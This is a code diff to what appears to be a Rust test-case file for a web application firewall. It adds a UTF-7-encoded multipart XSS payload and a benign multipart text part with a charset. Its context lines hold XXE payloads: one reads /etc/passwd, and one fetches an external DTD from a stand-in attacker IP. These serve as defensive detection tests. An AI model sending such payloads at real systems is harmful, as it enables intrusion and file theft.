@@ -88,11 +88,23 @@ pub const ATTACKS: &[Case] = &[
     ),
     // XXE: an entity the body uses, and one only the DTD uses (out of band: wapiti's).
     post("xxe: file entity", "/api", "application/xml", r#"<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#),
+    // A charset CRS does not allow in a part's Content-Type (922110, which selects the TX
+    // keys 922150 writes through an upper-case regex: selections ignore case).
+    post(
+        "multipart: a part in UTF-7",
+        "/upload",
+        MULTIPART,
+        "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n--XyZ--\r\n",
+    ),
     post("xxe: out of band", "/api", "application/xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ENTITY % remote SYSTEM \"http://203.0.113.9/x.dtd\">\n%remote; ]>\n<xml><test>hello</test></xml>"),
 ];
 
 /// An upload whose boundary is quoted, as RFC 2046 allows and .NET's HttpClient sends.
 pub const QUOTED_BOUNDARY: &str = "multipart: a quoted boundary";
+
+/// A form part with a charset in its Content-Type, as Java's and .NET's multipart
+/// clients write their text parts.
+pub const PART_CHARSET: &str = "multipart: a text part with its charset";
 
 /// The name of the attack that hides behind an encoded `?` (CVE-2024-1019).
 pub const ENCODED_QUERY_MARK: &str = "xss: behind an encoded ? in the path";
@@ -122,6 +134,12 @@ pub const BENIGN: &[Case] = &[
         "/upload",
         "multipart/form-data; boundary=\"c0ffee\"",
         "--c0ffee\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\nHoliday photos\r\n--c0ffee--\r\n",
+    ),
+    post(
+        PART_CHARSET,
+        "/upload",
+        MULTIPART,
+        "--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nSee you on Monday.\r\n--XyZ--\r\n",
     ),
     post("benign: XML", "/soap", "application/xml", "<?xml version=\"1.0\"?><order><id>42</id><note>Tom &amp; Jerry</note></order>"),
     // Namespaces and a self-closing element: every SOAP envelope was refused (941130 on
